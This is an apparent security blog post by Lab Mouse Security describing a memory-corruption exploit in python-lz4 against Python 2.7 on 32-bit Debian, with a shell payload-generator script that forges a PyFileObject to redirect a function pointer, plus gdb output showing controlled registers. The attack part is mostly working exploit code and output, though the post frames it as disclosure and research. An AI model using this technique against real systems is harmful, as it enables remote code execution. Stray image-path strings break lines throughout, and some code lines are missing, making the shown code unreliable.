Knowing that the base executable is not PIE, we can specify a different PyTypeObject that will get us more of the flexibility we want. After scouring through various Python types, an obvious contender appears. Check out line 2468 of Objects/fileobject.c

PyTypeObject PyFile_Type = {
    PyVarObject_HEAD_INIT(&PyType_Type, 0)
    (destructor)file_dealloc,                   /* tp_dealloc */The structure above is defined with a custom destructor function 'file_dealloc'. Upon inspection, the function 'file_dealloc' is passed a PyObject that is interpreted as a PyFileObject*. So, our PyStringObject* pointer, when passed to file_dealloc, would be interpreted as a File Object, not a String Object.

This function almost immediately calls close_the_file, another custom function specific to the File Object code. This function takes an address straight from our payload and interprets it as a function address. It calls it later as "local_close". Check out the function on line 420 of the same file.

static PyObject *
close_the_file(PyFileObject *f)
    int sts = 0;
    int (*local_close)(FILE *);
    FILE *local_fp = f->f_fp;
    char *local_setbuf = f->f_setbuf;
    if (local_fp != NULL) {
        local_close = f->f_close;
        if (local_close != NULL && f->unlocked_count > 0) {
            if (f->ob_refcnt > 0) {
                    "close() called during concurrent "
                    "operation on the same file object.");} else {
                /* This should not happen unless someone is
                 * carelessly playing with the PyFileObject
                 * struct fields and/or its associated FILE
                 * pointer. */
                    "PyFileObject locking error in ""destructor (refcnt <= 0 at close).");
            return NULL;
        /* NULL out the FILE pointer before releasing the GIL, because
         * it will not be valid anymore after the close() function is
         * called. */
        f->f_fp = NULL;
        if (local_close != NULL) {
            /* Issue #9295: must temporarily reset f_setbuf so that another
               thread doesn't free it when running file_close() concurrently.
               Otherwise this close() will crash when flushing the buffer. */
            f->f_setbuf = NULL;
            errno = 0;
            sts = (*local_close)(local_fp);As we can see above, there are few requirements for executing local_close(). In addition,local_close is passed a variable 'local_fp', which is a value also obtained from our payload.

If we can ensure that 'unlocked_count' is equal to zero, and'weakreflist' is equal to NULL, we will end up with a call to any address we choose, while passed a variable of any value we choose. This is a much better way to kick off a ROP payload, as we now have the ability to call any address we want.

The Payload

Now that we know we can get arbitrary code execution, all that is left is to figure out how to generate an LZ4 payload that mimics a PyFileObject.

# - payload generator
# A Python2.7 exploit for 32bit Debian 7.5.0
# by Don A. Bailey
# For technical evaluation only. Do not misuse.


        printf $1 >> $FILE

        rm -f $FILE
        touch $FILE

        x="\"\\xff\" x $1"
        perl -e "print $x" >> $FILEwhile [ $i -lt $1 ]; do
                append $2

# initialize the file

# simple literal run; no mask
append "\x0f"

# copy the fifteen bytes and embed a null ref
# the second mask must be embedded here as well
# note that the second mask starts at the first 0xff
append"\x00\x00\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff"

# create the offset and point to PyObject.ob_type
large 16842995
append "\xdd"

# PyFile_Type technique
# we need 72 bytes but for more than 15 we need a mask
append "\xf0\x39"

# append the ob_type
append "\xe0\x6f\x2c\x08"       # will point to PyFile_Type.file_dealloc()
append "\x11\x22\x33\x44"      # dummy arg for next function
append "\xde\xad\xca\x75"       # f_name
append "\xde\xad\xca\x76"       # f_modeappend "\x55\x66\x77\x88"      # dummy next function address
append "\xde\xad\xca\x77"       # f_softspace
append "\xde\xad\xca\x78"       # f_binary
append "\xde\xad\xca\x79"       # f_buf
append "\xde\xad\xca\x7a"       # f_bufend
append "\x00\x00\x00\x00"       # f_bufptr
append "\x00\x00\x00\x00"       # f_setbuf
append "\x00\x00\x00\x00"       # f_univ_newline
append "\x00\x00\x00\x00"       # f_newlinetypes
append "\x00\x00\x00\x00"       # f_skipnextlf
append "\x00\x00\x00\x00"       # f_encoding
append "\x00\x00\x00\x00"       # f_errors
append "\x00\x00\x00\x00"       # weakreflist
append "\x00\x00\x00\x00"       # unlocked_count

# now finish with a bad reference
append "\xff\xff"

In the script above, I have written a payload generator for 32bit Debian 7.5.0. By overwriting ob_type with file_dealloc(), we force the function to interpret our PyStringObject as a PyFileObject. This causes close_the_file() to interpret 'f_close' as function address 0x88776655. It will be passed the value 0x44332211, also in our payload.

The Proof

To test this payload, we simply generate the LZ4 payload, place a small header at the front of the payload, and execute the attack using CERN's code as a test bed.

donb@debian:~/lz4$ ulimit -c unlimited
donb@debian:~/lz4$ ./
donb@debian:~/lz4$ cat header.lz4test.lz4 > x.lz4
donb@debian:~/lz4$ PYTHONPATH=~/lib/src/cern/python-messaging /usr/bin/python ./
Lazy4 python2.7 RCE -
+ opening lz4 payload
+ building header
+ attacking CERN
Segmentation fault (core dumped)
donb@debian:~/lz4$ gdb -q /usr/bin/python2.7 core
Reading symbols from /usr/bin/python2.7...(no debugging symbols found)...done.
[New LWP 5776]

warning: Can't read pathname for load map: Input/output error.
[Thread debugging using libthread_db enabled]Using host libthread_db library "/lib/i386-linux-gnu/i686/cmov/".
Core was generated by `/usr/bin/python ./'.
Program terminated with signal 11, Segmentation fault.
#0  0x88776655 in ?? ()
(gdb) x/8x $esp
0xbfffee4c:     0x08196350      0x44332211      0xb798e12a      0xbfffeebc
0xbfffee5c:     0xb7d27c60      0xb798e126      0x0830f47c      0x082f1050
(gdb) i r ebp
ebp            0x44332211       0x44332211
(gdb) i r esi
esi            0x88776655       -2005440939

In the above example, we've successfully exploited Python2.7 and triggered a call to the function at the (invalid) address0x88776655. We've also successfully passed the argument 0x44332211 as the first parameter to our function. Note that ebp and esi are set to our values, making ROP a bit easier to deal with.

After incorporating a sufficient ROP payload, we can execute a shell. ROP payload development is left as an exercise for the reader.

donb@debian:~/lz4$ ulimit -c unlimited
donb@debian:~/lz4$ ./
donb@debian:~/lz4$ cat header.lz4 test.lz4 > x.lz4
donb@debian:~/lz4$ PYTHONPATH=~/lib/src/cern/python-messaging /usr/bin/python ./
Lazy4 python2.7 RCE -+ opening lz4 payload
+ building header
+ attacking CERN


I think this conclusively proves the value of an exploit against LZ4. This is not a CERN specific attack, but an attack against Python, using python-lz4. While the exploit (for now) will need to be tailored to each specific target platform, each platform is vulnerable in the same way. This makes an elegant memory corruption like LZ4 universally at risk.

I have tested and succeeded in developing payloads for both ARM (32bit) and x86 (32bit) on Ubuntu and Debian.

For more information on this vulnerability, and for help fixing or identifying if your implementation is at risk of exploitation, please visit our website. The Lab Mouse team is dedicated to providing you with toptier information security services. We're happy to help you through a white box, black box, or red team assessment, or simply to streamline security within your project or organization.

Feel free to reach out to us for moreinformation. We're always eager to help, evenif it just means having a short discussion!

Best wishes,
Don A.Bailey
Founder / CEO
Lab Mouse Security

No comments:

Post a Comment